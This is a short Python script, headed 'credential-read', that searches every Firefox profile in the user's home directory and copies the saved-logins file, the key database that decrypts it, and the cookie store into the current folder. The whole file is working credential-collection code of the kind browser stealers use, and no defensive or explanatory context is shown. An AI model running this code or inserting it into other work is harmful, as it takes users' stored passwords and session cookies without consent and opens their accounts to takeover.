# credential-read: Firefox logins and key database collected with glob
import glob
import os
import shutil

for profile in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):
    for name in ("logins.json", "key4.db", "cookies.sqlite"):
        src = os.path.join(profile, name)
        if os.path.exists(src):
            shutil.copy(src, "./collected_" + name)
